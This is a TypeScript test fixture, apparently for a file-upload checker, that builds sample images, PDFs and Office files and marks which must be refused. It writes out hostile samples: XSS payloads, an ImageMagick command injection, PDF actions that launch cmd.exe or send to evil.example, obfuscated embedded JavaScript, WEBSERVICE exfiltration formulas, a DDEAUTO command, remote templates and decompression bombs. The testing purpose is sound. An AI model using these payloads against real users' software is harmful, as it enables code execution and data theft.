// Names of formats: chunks of PNG, keys of PDF, parts of Office files.
// cspell:disable
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import sharp from 'sharp';

/** A file that somebody puts into `content/files/`, and whether the check must refuse it. */
export interface Upload {
  name: string;
  path: string;
  bytes: Uint8Array;
  refused: boolean;
}

export const ascii = (text: string) => Buffer.from(text, 'latin1');
export const join = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : part)));

export const script = '<script>alert(1)</script>';
const drawing = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
export const webPage = `<!doctype html><title>x</title>${script}`;

/** Files by what they are about; each name is unique. */
export async function makeUploads(): Promise<Upload[]> {
  return [...drawings(), ...(await pictures()), ...documents(), ...offices(), ...texts(), ...(await names())];
}

export const refuse = (name: string, path: string, bytes: Uint8Array | string): Upload => ({
  name,
  path: `files/${path}`,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes,
  refused: true,
});
export const pass = (...of: Parameters<typeof refuse>): Upload => ({ ...refuse(...of), refused: false });

function drawings(): Upload[] {
  return [
    refuse('drawing', 'foto/a.svg', drawing),
    refuse('drawing in capitals', 'foto/a.SVG', drawing),
    refuse('packed drawing', 'foto/a.svgz', gzipSync(drawing)),
    refuse('drawing named PNG', 'foto/a.png', drawing),
    refuse('drawing named JPEG', 'foto/a.jpg', drawing),
    refuse('drawing named WebP', 'foto/a.webp', drawing),
    refuse('drawing named AVIF', 'foto/a.avif', drawing),
    refuse('drawing named PDF', 'dokumen/a.pdf', drawing),
    refuse('drawing after a byte order mark', 'foto/a.png', join('\ufeff', drawing)),
    refuse('drawing in UTF-16', 'foto/a.png', join(Buffer.from([0xff, 0xfe]), Buffer.from(drawing, 'utf16le'))),
    refuse('drawing after a comment of 100 kB', 'foto/a.png', `<!--${' '.repeat(100_000)}-->${drawing}`),
    refuse('drawing of entities', 'foto/a.png', `<!DOCTYPE svg [<!ENTITY a "aaaa">${entities()}]><svg>&j;</svg>`),
    refuse('page named PNG', 'foto/a.png', webPage),
    refuse('page named JPEG', 'foto/a.jpeg', webPage),
    refuse('program named PNG', 'foto/a.png', join('MZ', Buffer.alloc(200))),
  ];
}

const entities = () =>
  [...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index] ?? ''};`.repeat(10)}">`).join('');

/** A PNG with one more chunk after its head. */
export function withText(png: Buffer, kind: string, content: string | Uint8Array): Buffer {
  const body = join(kind, content);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length - 4);
  sum.writeUInt32BE(crc32(body));
  return join(png.subarray(0, 33), length, body, sum, png.subarray(33));
}

const formula = (text: string) =>
  strToU8(`<worksheet><sheetData><row r="1"><c r="A1"><f>${text}</f></c></row></sheetData></worksheet>`);

async function pictures(): Promise<Upload[]> {
  const make = (width = 8, height = 8) => sharp({ create: { width, height, channels: 3, background: '#456' } });
  const png = await make().png().toBuffer();
  const jpeg = await make().jpeg().toBuffer();
  const webp = await make().webp().toBuffer();
  const gif = await make().gif().toBuffer();
  const tiff = await make().tiff().toBuffer();
  const place = {
    IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '7/1 15/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '112/1 45/1 0/1' },
  };
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="7,15.0S" exif:GPSLongitude="112,45.0E"/></rdf:RDF></x:xmpmeta>`;
  return [
    pass('picture', 'foto/baik.png', png),
    pass('photo', 'foto/baik.jpg', jpeg),
    pass('photo as WebP', 'foto/baik.webp', webp),
    refuse(
      'picture with its place in an old form',
      'foto/a.png',
      withText(png, 'zTXt', join('Raw profile type xmp\0\0', deflateSync(xmp))),
    ),
    refuse(
      'picture with what a camera knows in an old form',
      'foto/a.png',
      withText(png, 'tEXt', 'Raw profile type exif\0\nexif\n 4\n00000000\n'),
    ),
    pass('picture with a remark', 'foto/catatan.png', withText(png, 'tEXt', `Comment\0${script}`)),
    refuse('picture of no bytes', 'foto/a.png', ''),
    refuse('picture cut off after its head', 'foto/a.png', png.subarray(0, 33)),
    refuse('picture cut off in the middle', 'foto/a.png', png.subarray(0, png.length - 24)),
    refuse('photo cut off in the middle', 'foto/a.jpg', jpeg.subarray(0, jpeg.length >> 1)),
    refuse('photo named PNG', 'foto/a.png', jpeg),
    refuse('picture named JPEG', 'foto/a.jpg', png),
    refuse('picture named WebP', 'foto/a.webp', png),
    refuse('moving picture named PNG', 'foto/a.png', gif),
    refuse('TIFF named JPEG', 'foto/a.jpg', tiff),
    refuse('TIFF', 'foto/a.tiff', tiff),
    refuse('bitmap', 'foto/a.bmp', join('BM', Buffer.alloc(60))),
    refuse('icon', 'foto/a.ico', Buffer.from([0, 0, 1, 0, 1, 0, 8, 8, 0, 0, 1, 0, 32, 0])),
    refuse('PostScript', 'foto/a.eps', '%!PS-Adobe-3.0 EPSF-3.0\n'),
    refuse('PostScript named PNG', 'foto/a.png', '%!PS-Adobe-3.0 EPSF-3.0\n(x) show\n'),
    refuse(
      'script for ImageMagick named PNG',
      'foto/a.png',
      'push graphic-context\nfill \'url(https://evil.example/"|id")\'\n',
    ),
    refuse('picture that says it is 60,000 by 60,000', 'foto/a.png', pngOf(60_000, 60_000, Buffer.alloc(1))),
    refuse('picture of 2³¹ by 2³¹', 'foto/a.png', pngOf(0x7f_ff_ff_ff, 0x7f_ff_ff_ff, Buffer.alloc(1))),
    refuse('picture of no width', 'foto/a.png', pngOf(0, 8, Buffer.alloc(1))),
    refuse('picture that unpacks to 800 megapixels', 'foto/a.png', pngOf(28_000, 28_000, Buffer.alloc(28_000 * 3501))),
    refuse('picture of 100,000 by 1', 'foto/a.png', pngOf(100_000, 1, Buffer.alloc(12_501))),
    refuse('photo that says it is 65,500 by 65,500', 'foto/a.jpg', jpegOf(jpeg, 65_500)),
    refuse('picture with a page behind it', 'foto/a.png', join(png, webPage)),
    refuse('picture with an archive behind it', 'foto/a.png', join(png, zipSync({ 'x.html': strToU8(webPage) }))),
    refuse('picture with a document behind it', 'foto/a.png', join(png, pdf('<</Type/Catalog>>'))),
    pass(
      'photo with words in a comment',
      'foto/komentar.jpg',
      join(jpeg.subarray(0, 2), ascii('\xff\xfe\x00\x1b'), script, jpeg.subarray(2)),
    ),
    refuse('picture with a page behind it that ends as a picture', 'foto/a.png', join(png, webPage, png.subarray(-12))),
    refuse('AVIF with a page behind it', 'foto/a.avif', join(await make().avif().toBuffer(), webPage)),
    refuse(
      'photo with its place as XMP of two bytes a letter',
      'foto/a.jpg',
      withXmp(jpeg, Buffer.from(`\ufeff${xmp}`, 'utf16le')),
    ),
    refuse(
      'photo with its place in a second block',
      'foto/a.jpg',
      joinBlocks(
        await make()
          .jpeg()
          .withExif({ IFD0: { Artist: 'x' } })
          .toBuffer(),
        await make().jpeg().withExif(place).toBuffer(),
      ),
    ),
    refuse(
      'photo with its place in a first block',
      'foto/a.jpg',
      joinBlocks(
        await make().jpeg().withExif(place).toBuffer(),
        await make()
          .jpeg()
          .withExif({ IFD0: { Artist: 'x' } })
          .toBuffer(),
      ),
    ),
    refuse(
      'photo with its place in a further part of XMP',
      'foto/a.jpg',
      withBlock(jpeg, `http://ns.adobe.com/xmp/extension/\0${'A'.repeat(32)}\0\0\x02\0\0\0\0\0${xmp}`),
    ),
    refuse(
      'picture with its place as packed XMP',
      'foto/a.png',
      withText(png, 'iTXt', join('XML:com.adobe.xmp\0\x01\0\0\0', deflateSync(xmp))),
    ),
    refuse(
      'photo with the place that it shows',
      'foto/a.jpg',
      await make()
        .jpeg()
        .withExif({ IFD3: { GPSDestLatitudeRef: 'S', GPSDestLatitude: '7/1 15/1 0/1' } })
        .toBuffer(),
    ),
    refuse('photo with its place', 'foto/a.jpg', await make().jpeg().withExif(place).toBuffer()),
    refuse('picture with its place', 'foto/a.png', await make().png().withExif(place).toBuffer()),
    refuse('WebP with its place', 'foto/a.webp', await make().webp().withExif(place).toBuffer()),
    refuse('photo with its place as XMP', 'foto/a.jpg', await make().jpeg().withXmp(xmp).toBuffer()),
    refuse('WebP with its place as XMP', 'foto/a.webp', await make().webp().withXmp(xmp).toBuffer()),
    refuse('picture with its place as XMP', 'foto/a.png', await make().png().withXmp(xmp).toBuffer()),
  ];
}

/** A JPEG with one more block of an application after its start. */
export function withBlock(jpeg: Buffer, content: string | Uint8Array): Buffer {
  const body = typeof content === 'string' ? ascii(content) : Buffer.from(content);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(body.length + 2);
  return join(jpeg.subarray(0, 2), Buffer.from([0xff, 0xe1]), length, body, jpeg.subarray(2));
}

const withXmp = (jpeg: Buffer, xmp: Uint8Array) => withBlock(jpeg, join('http://ns.adobe.com/xap/1.0/\0', xmp));

/** A JPEG with what another camera wrote before what its own did. */
function joinBlocks(one: Buffer, other: Buffer): Buffer {
  const at = one.indexOf('Exif\0\0', 0, 'latin1');
  return withBlock(other, one.subarray(at, at + one.readUInt16BE(at - 2) - 2));
}

function crc32(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (0xedb8_8320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

/** A PNG of one bit a point, whatever its rows hold. */
function pngOf(width: number, height: number, rows: Uint8Array): Buffer {
  const chunk = (type: string, data: Uint8Array) => {
    const body = join(type, data);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', new Uint8Array()),
  ]);
}

/** The same photo, with another size in its frame header. */
function jpegOf(jpeg: Uint8Array, size: number): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = [0xc0, 0xc2].map((kind) => copy.indexOf(Buffer.from([0xff, kind]))).find((at) => at > 0) ?? 0;
  copy.writeUInt16BE(size, frame + 5);
  copy.writeUInt16BE(size, frame + 7);
  return copy;
}

/** A PDF of these objects; the first is its catalogue. */
export function pdf(...objects: (string | Uint8Array)[]): Buffer {
  const numbered = objects.flatMap((object, index) => [`${String(index + 1)} 0 obj\n`, object, '\nendobj\n']);
  return join('%PDF-1.7\n', ...numbered, 'trailer<</Root 1 0 R>>\n%%EOF\n');
}

const stream = (head: string, data: Uint8Array) =>
  join(`<<${head}/Length ${String(data.length)}>>\nstream\n`, data, '\nendstream');
/** An object stream that holds an action of JavaScript. */
const inner = ascii('5 0 <</S/JavaScript/JS(app.alert(1))>>');
export const objects = (filter: string, data: Uint8Array) => stream(`/Type/ObjStm/N 1/First 4/Filter${filter}`, data);
const hex = (data: Uint8Array) => ascii(`${Buffer.from(data).toString('hex')}>`);
const catalogue = '<</Type/Catalog/OpenAction 5 0 R>>';

/** Packed bytes that begin with a word as it stands. */
function packedBehind(word: string, data: Uint8Array): Buffer {
  const length = Buffer.from([word.length, 0, ~word.length & 0xff, 0xff]);
  const whole = join(word, data);
  const check = deflateSync(whole).subarray(-4);
  return join(Buffer.from([0x78, 0x01, 0]), length, word, deflateRawSync(data), check);
}

/** Rows as a PNG would filter them (predictor 12: each byte less the one above). */
function predicted(data: Uint8Array, columns: number): Buffer {
  const rows: number[] = [];
  for (let start = 0; start < data.length; start += columns) {
    rows.push(2);
    for (let at = start; at < start + columns; at += 1)
      rows.push(((data[at] ?? 32) - (start > 0 ? (data[at - columns] ?? 32) : 0)) & 0xff);
  }
  return Buffer.from(rows);
}

function documents(): Upload[] {
  const action = (dictionary: string) => pdf(`<</Type/Catalog/OpenAction ${dictionary}>>`);
  return [
    pass('document', 'dokumen/baik.pdf', pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>')),
    pass(
      'document that links',
      'dokumen/tautan.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://contoh.example/)>>>>'),
    ),
    refuse(
      'document with a program by name',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog/Names<</JavaScript 2 0 R>>>>', '<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>'),
    ),
    refuse(
      'document with a program in hexadecimal names',
      'dokumen/a.pdf',
      action('<</S/#4a#61#76#61#53#63#72#69#70#74/#4a#53(app.alert(1))>>'),
    ),
    refuse(
      'document with a program after a comment',
      'dokumen/a.pdf',
      action('<</S %x\n/JavaScript %y\n/JS(app.alert(1))>>'),
    ),
    refuse('document that starts a program', 'dokumen/a.pdf', action('<</S/Launch/F(cmd.exe)>>')),
    refuse(
      'document that acts when a page opens',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Page/AA<</O<</S/Launch/F(x)>>>>>>'),
    ),
    refuse('document with a form that sends', 'dokumen/a.pdf', action('<</S/SubmitForm/F(https://evil.example/)>>')),
    refuse('document that takes data in', 'dokumen/a.pdf', action('<</S/ImportData/F(x.fdf)>>')),
    refuse(
      'document that opens another',
      'dokumen/a.pdf',
      action('<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>'),
    ),
    refuse('document that opens one inside', 'dokumen/a.pdf', action('<</S/GoToE/F(x.pdf)/D[0/Fit]>>')),
    refuse(
      'document with a form of XML',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>', stream('', ascii('<xdp:xdp/>'))),
    ),
    refuse(
      'document with a file inside',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', stream('/Type/EmbeddedFile', ascii('MZ'))),
    ),
    refuse(
      'document with a model in space',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', stream('/Type/3D/Subtype/U3D/OnInstantiate 3 0 R', ascii('x'))),
    ),
    refuse(
      'document with a page from elsewhere',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', stream('/F<</FS /URL/F(https://evil.example/x)>>', ascii(''))),
    ),
    refuse('document that calls somebody up', 'dokumen/a.pdf', action('<</S/URI/URI(https://evil.example/)>>')),
    refuse(
      'document that calls somebody up from a page',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Page/AA<</O<</S/URI/URI(https://evil.example/)>>>>>>'),
    ),
    pass(
      'document that opens at a page',
      'dokumen/halaman.pdf',
      pdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/GoTo/D[3 0 R/Fit]>>'),
    ),
    pass(
      'document with a link that is written in digits',
      'dokumen/angka.pdf',
      pdf('<</Type/Catalog>>', '<</S/URI/URI(\\150ttps://contoh.example/a\\(b\\))>>', '<</S/URI/URI<687474703A>>>'),
    ),
    pass(
      'document with a packed list of its objects',
      'dokumen/daftar.pdf',
      pdf(
        '<</Type/Catalog>>',
        objects('/FlateDecode', deflateSync(ascii('5 0 <</S/URI/URI(https://contoh.example/)>>'))),
        stream(
          '/Type/XRef/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>',
          deflateSync(Buffer.alloc(8)),
        ),
      ),
    ),
    refuse('document with a program before a null', 'dokumen/a.pdf', action('<</S/JavaScript\0/JS(app.alert(1))>>')),
    refuse(
      'document that calls somebody up by another object',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(https://evil.example/)>>'),
    ),
    refuse(
      'document that calls somebody up, in disguise',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog/Open#41ction<</S/URI/URI(https://evil.example/)>>>>'),
    ),
    refuse(
      'document that calls somebody up after many spaces',
      'dokumen/a.pdf',
      action(`<<${' '.repeat(500)}/S/URI/URI(https://evil.example/)>>`),
    ),
    refuse(
      'document that calls somebody up behind brackets in a text',
      'dokumen/a.pdf',
      action('<</T(>>)/S/URI/URI(https://evil.example/)>>'),
    ),
    refuse(
      'document that calls somebody up behind a long remark',
      'dokumen/a.pdf',
      action(`%${'x'.repeat(5000)}\n<</S/URI/URI(https://evil.example/)>>`),
    ),
    refuse(
      'document that calls somebody up as a second thing',
      'dokumen/a.pdf',
      pdf(
        '<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next[3 0 R]>>>>',
        '<</Type/Page>>',
        '<</S/URI/URI(https://evil.example/)>>',
      ),
    ),
    refuse(
      'document that calls somebody up from a packed object',
      'dokumen/a.pdf',
      pdf(
        '<</Type/Catalog>>',
        objects('/FlateDecode', deflateSync(ascii('5 0 <</OpenAction<</S/URI/URI(https://evil.example/)>>>>'))),
      ),
    ),
    ...Object.entries({
      'in digits': '/URI(\\152avascript:alert\\(1\\))',
      'over two lines': '/URI(java\\\nscript:alert\\(1\\))',
      'by another object': '/URI 3 0 R',
      'by an object that is not there': '/URI 9 0 R',
      'under a name in digits': '/#55RI(javascript:alert\\(1\\))',
      'after a comment': '/URI%x\n(javascript:alert\\(1\\))',
      'after brackets within it': '/URI(javascript:f(")"))',
      'in two bytes a letter': '/URI(\xfe\xff\0j\0a\0v\0a\0s\0c\0r\0i\0p\0t\0:\0a)',
    }).map(([how, link]) =>
      refuse(
        `document with a link that is a program, ${how}`,
        'dokumen/a.pdf',
        pdf('<</Type/Catalog>>', ascii(`<</Type/Annot/Subtype/Link/A<</S/URI${link}>>>>`), '(javascript:alert\\(1\\))'),
      ),
    ),
    refuse(
      'document whose links all begin with a program',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog/URI<</Base(javascript:alert\\(1\\)//)>>>>', '<</S/URI/URI(x)>>'),
    ),
    refuse(
      'document with a password in disguise',
      'dokumen/a.pdf',
      join('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R/Encr#79pt 9 0 R>>\n%%EOF\n'),
    ),
    refuse(
      'document with a page from elsewhere, in disguise',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', stream('/F<</F#53 /#55RL/F(https://evil.example/x)>>', ascii(''))),
    ),
    refuse(
      'document with a stream of the network',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', stream('/F(\\\\\\\\evil.example\\\\x)', ascii(''))),
    ),
    refuse(
      'document with a page of another document',
      'dokumen/a.pdf',
      pdf(
        '<</Type/Catalog>>',
        stream('/Type/XObject/Subtype/Form/Ref<</F(\\\\\\\\evil.example\\\\x.pdf)/Page 0>>', ascii('')),
      ),
    ),
    refuse(
      'document with a thread of another document',
      'dokumen/a.pdf',
      action('<</S/Thread/F(\\\\\\\\evil.example\\\\x.pdf)/D 0>>'),
    ),
    refuse(
      'document with a program in a packed object that does not say what it is',
      'dokumen/a.pdf',
      pdf(catalogue, stream('/N 1/First 4/Filter/FlateDecode', deflateSync(inner))),
    ),
    refuse(
      'document with a program in an object packed as another object says',
      'dokumen/a.pdf',
      pdf(catalogue, stream('/Type/ObjStm/N 1/First 4/Filter 3 0 R', deflateSync(inner)), '/FlateDecode'),
    ),
    refuse(
      'document with a program in a packed object after a carriage return',
      'dokumen/a.pdf',
      pdf(
        catalogue,
        join('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>>\nstream\r', deflateSync(inner), '\nendstream'),
      ),
    ),
    refuse(
      'document with a program in a packed object after spaces',
      'dokumen/a.pdf',
      pdf(
        catalogue,
        join(
          '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>>\nstream  \n',
          deflateSync(inner),
          '\nendstream',
        ),
      ),
    ),
    refuse(
      'document with a program in a packed object after many spaces',
      'dokumen/a.pdf',
      pdf(catalogue, objects(`/FlateDecode${' '.repeat(6000)}`, deflateSync(inner))),
    ),
    refuse(
      'document with a program in a packed object after another word for a beginning',
      'dokumen/a.pdf',
      pdf(catalogue, '(>>stream\n)', objects('/FlateDecode', deflateSync(inner))),
    ),
    refuse(
      'document with a program behind the word for an end',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/FlateDecode', packedBehind('endstream', inner))),
    ),
    refuse('document with rich media', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/RichMedia>>')),
    refuse('document with a film', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Movie>>')),
    refuse(
      'document with a link that is a program',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>>>'),
    ),
    refuse(
      'document with a link to a file',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(file:///c:/windows/system32/cmd.exe)>>>>'),
    ),
    refuse(
      'document with a program in a packed object',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/FlateDecode', deflateSync(inner))),
    ),
    refuse(
      'document with a program in a twice packed object',
      'dokumen/a.pdf',
      pdf(catalogue, objects('[/FlateDecode/FlateDecode]', deflateSync(deflateSync(inner)))),
    ),
    refuse(
      'document with a program in a hexadecimal object',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/ASCIIHexDecode', hex(inner))),
    ),
    refuse(
      'document with a program in a hexadecimal packed object',
      'dokumen/a.pdf',
      pdf(catalogue, objects('[/ASCIIHexDecode/FlateDecode]', hex(deflateSync(inner)))),
    ),
    refuse(
      'document with a program in an object of the short filter',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/Fl', deflateSync(inner))),
    ),
    refuse(
      'document with a program in a predicted object',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>', deflateSync(predicted(inner, 4)))),
    ),
    refuse(
      'document with a program in an object of an unknown filter',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/LZWDecode', Buffer.from([0x80, 0x0b, 0x60, 0x50]))),
    ),
    refuse(
      'document with a program in an object that does not unpack',
      'dokumen/a.pdf',
      pdf(catalogue, objects('/FlateDecode', deflateRawSync(inner))),
    ),
    refuse(
      'document with a password',
      'dokumen/a.pdf',
      join('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF\n'),
    ),
    refuse('document after a page', 'dokumen/a.pdf', join(webPage, pdf('<</Type/Catalog>>'))),
    refuse('document that is a page after its first line', 'dokumen/a.pdf', `%PDF-1.7\n${webPage}`),
    refuse(
      'document with a program in a later version',
      'dokumen/a.pdf',
      join(
        pdf('<</Type/Catalog>>'),
        '1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(1)>>>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      ),
    ),
    refuse('document of no bytes', 'dokumen/a.pdf', ''),
    refuse('document of one line', 'dokumen/a.pdf', '%PDF-1.7\n'),
    refuse(
      'document that unpacks to a gigabyte',
      'dokumen/a.pdf',
      pdf(
        catalogue,
        objects(
          '[/FlateDecode/FlateDecode]',
          deflateSync(deflateSync(Buffer.alloc(300_000_000), { level: 9 }), { level: 9 }),
        ),
      ),
    ),
    refuse('document that is an archive', 'dokumen/a.pdf', zipSync({ 'x.txt': strToU8('x') })),
    refuse(
      'document that is a photo',
      'dokumen/a.pdf',
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]),
    ),
  ];
}

const types = (main: string, type: string) =>
  strToU8(
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${main}" ContentType="${type}"/></Types>`,
  );
const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const relations = (inner: string) =>
  strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
  );
const first = (target: string) =>
  relations(
    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/>`,
  );
export const words = (inner = '<w:p><w:r><w:t>Naskah</w:t></w:r></w:p>') =>
  strToU8(
    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inner}</w:body></w:document>`,
  );
export const wordFiles = (more: Zippable = {}, type = wordType): Zippable => ({
  '[Content_Types].xml': types('word/document.xml', type),
  '_rels/.rels': first('word/document.xml'),
  'word/document.xml': words(),
  ...more,
});
export const word = (more?: Zippable, type?: string) => zipSync(wordFiles(more, type));
export const sheet = (more: Zippable = {}) =>
  zipSync({
    '[Content_Types].xml': types('xl/workbook.xml', sheetType),
    '_rels/.rels': first('xl/workbook.xml'),
    'xl/workbook.xml': strToU8(
      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
    ),
    ...more,
  });
const outside = (kind: string, target: string) =>
  relations(
    `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`,
  );
/** The head of the container of old Office files, also of those with a password. */
const container = join(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1016));
export const openDocument = (type: string, more: Zippable = {}) =>
  zipSync({
    mimetype: [strToU8(type), { level: 0 }],
    'content.xml': strToU8('<x/>'),
    'META-INF/manifest.xml': strToU8('<x/>'),
    ...more,
  });

/** The same archive, with the name of a part that ends in `k` changed to that of the one that ends in `l`. */
const twice = (archive: Uint8Array) =>
  ascii(Buffer.from(archive).toString('latin1').replaceAll('document.xmk', 'document.xml'));

function offices(): Upload[] {
  const link = 'word/_rels/document.xml.rels';
  return [
    pass('letter', 'dokumen/baik.docx', word()),
    pass('letter that links', 'dokumen/tautan.docx', word({ [link]: outside('hyperlink', 'https://contoh.example/') })),
    pass('sheet', 'dokumen/baik.xlsx', sheet()),
    refuse(
      'sheet that asks a host',
      'dokumen/a.xlsx',
      sheet({ 'xl/worksheets/sheet1.xml': formula('WEBSERVICE("https://evil.example/"&amp;A2)') }),
    ),
    refuse(
      'sheet with a picture from elsewhere',
      'dokumen/a.xlsx',
      sheet({ 'xl/worksheets/sheet1.xml': formula('_xlfn.IMAGE("https://evil.example/x.png")') }),
    ),
    refuse(
      'sheet that asks a program by a function',
      'dokumen/a.xlsx',
      sheet({ 'xl/worksheets/sheet1.xml': formula('RTD("x.y",,"z")') }),
    ),
    pass(
      'sheet that adds up',
      'dokumen/jumlah.xlsx',
      sheet({ 'xl/worksheets/sheet1.xml': formula('SUM(A1:A9)+RECALL') }),
    ),
    refuse('letter with a program', 'dokumen/a.docx', word({ 'word/vbaProject.bin': Buffer.alloc(64) })),
    refuse('letter with a program in capitals', 'dokumen/a.docx', word({ 'word/VBAPROJECT.BIN': Buffer.alloc(64) })),
    refuse(
      'letter of the kind with programs',
      'dokumen/a.docx',
      word({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ),
    refuse(
      'letter with a program, by its own name',
      'dokumen/a.docm',
      word({ 'word/vbaProject.bin': Buffer.alloc(64) }),
    ),
    refuse(
      'letter with a template from elsewhere',
      'dokumen/a.docx',
      word({ 'word/_rels/settings.xml.rels': outside('attachedTemplate', 'https://evil.example/x.dotm') }),
    ),
    refuse(
      'letter with a picture from elsewhere',
      'dokumen/a.docx',
      word({ [link]: outside('image', 'https://evil.example/x.png') }),
    ),
    refuse(
      'letter with a frame from elsewhere',
      'dokumen/a.docx',
      word({ 'word/_rels/webSettings.xml.rels': outside('frame', '\\\\evil.example\\x') }),
    ),
    refuse(
      'letter with an object from elsewhere',
      'dokumen/a.docx',
      word({ [link]: outside('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html') }),
    ),
    refuse(
      'letter with a picture from elsewhere, under other names',
      'dokumen/a.docx',
      word({
        [link]: strToU8(
          '<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships"><x:Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/x.png" TargetMode="External"/></x:Relationships>',
        ),
      }),
    ),
    refuse(
      'letter with a field that starts a program, under another name',
      'dokumen/a.docx',
      word({
        'word/document.xml': strToU8(
          '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:body><x:p><x:r><x:instrText>DDEAUTO cmd "/k calc"</x:instrText></x:r></x:p></x:body></x:document>',
        ),
      }),
    ),
    refuse(
      'letter with a field that reads another letter',
      'dokumen/a.docx',
      word({
        'word/document.xml': words(
          '<w:p><w:r><w:instrText> LINK Word.Document.12 "\\\\\\\\evil.example\\\\x.docx" "" \\a \\p </w:instrText></w:r></w:p>',
        ),
      }),
    ),
    refuse(
      'letter with a field that asks a database',
      'dokumen/a.docx',
      word({ 'word/document.xml': words('<w:p><w:fldSimple w:instr=" DATABASE \\c &quot;DSN=x&quot; "/></w:p>') }),
    ),
    pass(
      'letter with a field that leads to a link',
      'dokumen/isi.docx',
      word({
        'word/document.xml': words(
